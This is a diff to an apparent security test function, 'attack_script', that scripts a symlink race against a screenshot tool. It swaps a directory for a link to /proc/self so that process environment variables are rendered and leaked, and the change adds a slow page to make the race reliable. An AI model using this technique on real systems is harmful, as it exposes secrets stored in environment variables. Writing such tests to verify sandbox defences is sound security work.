@@ -329,7 +329,9 @@ def attack_script(secret_path: Path, host_folder: Path) -> dict:
     shot_race = "; ".join([
         f"ln -s {host_folder} shots", "shot.sh good.html > shot0.txt 2>&1", "rm shots",
         "mkdir -p sub", "cp good.html sub/environ",
-        "(shot.sh good.html > shot1.txt 2>&1 &)", "sleep 1",
+        # ready after 6 s: shot2 is still waiting for its turn when sub is swapped, however fast the host
+        "printf '<!doctype html><title>slow</title><script>setTimeout(() => { window.ready = true }, 6000)</script>' > slow.html",
+        "(shot.sh slow.html > shot1.txt 2>&1 &)", "sleep 1",
         "(shot.sh sub/environ > shot2.txt 2>&1 &)", "sleep 1",
         "mv sub sub.old", "ln -s /proc/self sub",
         "for i in $(seq 240); do grep -q . shot2.txt 2>/dev/null && grep -q screenshot shot1.txt && break; sleep 0.5; done",
